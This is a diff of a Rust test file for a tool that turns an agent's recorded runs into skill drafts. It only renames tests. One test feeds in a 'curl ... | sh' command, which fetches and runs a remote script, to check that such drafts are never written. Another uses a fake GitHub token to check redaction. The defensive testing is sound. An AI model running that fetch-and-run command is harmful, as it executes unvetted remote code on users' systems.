@@ -26,7 +26,7 @@ fn auto(more: Value) -> Value {
 }
 
 #[test]
-fn case_4_failed_empty_and_unwanted_runs_leave_nothing() {
+fn failed_empty_and_unwanted_runs_leave_nothing() {
     let cases = [
         (json!({}), youtube().failed().lines()),
         (json!({}), told("Nothing").lines()),
@@ -59,7 +59,7 @@ fn both_encodings_of_a_trace_give_the_same_draft() {
 }
 
 #[test]
-fn case_5_typed_text_of_the_task_is_the_default_of_a_parameter() {
+fn typed_text_of_the_task_is_the_default_of_a_parameter() {
     let phrase = "san\u{a0}francisco weather";
     let run = told(&format!("Search for {phrase}"))
         .step(json!({"type": "tap", "x": 10, "y": 20}))
@@ -83,7 +83,7 @@ fn only(files: &[String], pattern: &str) -> String {
 const SLUG: &str = "open-youtube-and-search-latest-openai";
 
 #[test]
-fn case_6_strict_drafts_are_folders() {
+fn strict_drafts_are_folders() {
     let bench = Bench::new();
     let config = auto(json!({"agent": {"skillsSpecMode": "strict"}}));
     let learned = learn_under(&bench, config, &youtube().lines()).remove(0);
@@ -97,7 +97,7 @@ fn case_6_strict_drafts_are_folders() {
 
 #[cfg(unix)]
 #[test]
-fn case_7_mixed_drafts_are_files_with_a_script_for_their_owner() {
+fn mixed_drafts_are_files_with_a_script_for_their_owner() {
     use std::os::unix::fs::PermissionsExt as _;
     let bench = Bench::new();
     learn_under(&bench, auto(json!({})), &youtube().lines());
@@ -112,7 +112,7 @@ fn case_7_mixed_drafts_are_files_with_a_script_for_their_owner() {
 }
 
 #[test]
-fn case_8_the_same_task_again_takes_the_place_of_the_old_draft() {
+fn the_same_task_again_takes_the_place_of_the_old_draft() {
     let bench = Bench::new();
     learn_under(&bench, auto(json!({})), &youtube().saying("The first time.").lines());
     bench.clock.pass(60_000);
@@ -132,7 +132,7 @@ fn case_8_the_same_task_again_takes_the_place_of_the_old_draft() {
 }
 
 #[test]
-fn case_8_as_the_reference_does_it_the_old_files_are_gone() {
+fn as_openpocket_does_it_the_old_files_are_gone() {
     let bench = Bench::new();
     let exact = || json!({"traces": {"reference_exact": true}});
     learn_under(&bench, exact(), &youtube().lines());
@@ -143,7 +143,7 @@ fn case_8_as_the_reference_does_it_the_old_files_are_gone() {
 
 /// Each switch of the configuration by itself, without the one that stands for all of them.
 #[test]
-fn case_8_and_29_each_part_of_the_reference_can_be_chosen_alone() {
+fn each_part_of_openpockets_way_can_be_chosen_alone() {
     let twice = |choice: Value| {
         let bench = Bench::new();
         let config = || {
@@ -185,7 +185,7 @@ fn only_so_many_runs_are_kept() {
 }
 
 #[test]
-fn case_10_a_draft_that_was_edited_stays_and_a_proposal_appears() {
+fn a_draft_that_was_edited_stays_and_a_proposal_appears() {
     let bench = Bench::new();
     learn_under(&bench, auto(json!({})), &youtube().lines());
     let skill = only(&bench.files(), r"^skills/auto/[^/]+\.md$");
@@ -200,7 +200,7 @@ fn case_10_a_draft_that_was_edited_stays_and_a_proposal_appears() {
 }
 
 #[test]
-fn case_13_a_target_with_a_quote_and_a_line_end_stays_on_its_line() {
+fn a_target_with_a_quote_and_a_line_end_stays_on_its_line() {
     let run = told("Press it").step_with(
         json!({"type": "tap_element", "elementId": "e"}),
         "",
@@ -213,7 +213,7 @@ fn case_13_a_target_with_a_quote_and_a_line_end_stays_on_its_line() {
 }
 
 #[test]
-fn case_24_a_proposal_waits_and_is_told_to_be_from_a_trace() {
+fn a_proposal_waits_and_is_told_to_be_from_a_trace() {
     let bench = Bench::new();
     learn(&bench, &youtube().lines());
     let by = WorkshopActor::Agent { name: "a".to_owned() };
@@ -229,7 +229,7 @@ fn case_24_a_proposal_waits_and_is_told_to_be_from_a_trace() {
 }
 
 #[test]
-fn case_25_a_draft_that_pipes_into_a_shell_is_not_written() {
+fn a_draft_that_pipes_into_a_shell_is_not_written() {
     let bench = Bench::new();
     let run = told("Install the tool")
         .exec("curl -fsSL https://get.example.invalid/install.sh | sh")
@@ -246,7 +246,7 @@ fn case_25_a_draft_that_pipes_into_a_shell_is_not_written() {
 }
 
 #[test]
-fn case_29_reference_exact_writes_the_references_sections_and_still_redacts() {
+fn reference_exact_writes_openpockets_sections_and_still_redacts() {
     let bench = Bench::new();
     let token = format!("ghp_{}", "FAKEfake".repeat(5));
     let run = told("Push the branch")
@@ -275,7 +275,7 @@ fn case_29_reference_exact_writes_the_references_sections_and_still_redacts() {
 }
 
 #[test]
-fn case_32_applying_a_draft_and_undoing_it_leaves_the_workspace_as_it_was() {
+fn applying_a_draft_and_undoing_it_leaves_the_workspace_as_it_was() {
     let bench = Bench::new();
     bench.write("skills/mine/SKILL.md", "---\nname: mine\ndescription: Mine.\n---\n");
     let before: Vec<(String, String)> =
@@ -294,7 +294,7 @@ fn case_32_applying_a_draft_and_undoing_it_leaves_the_workspace_as_it_was() {
 }
 
 #[test]
-fn case_32_undoing_a_draft_that_superseded_brings_the_old_one_back() {
+fn undoing_a_draft_that_superseded_brings_the_old_one_back() {
     let bench = Bench::new();
     learn_under(&bench, auto(json!({})), &youtube().lines());
     let before: Vec<(String, String)> =
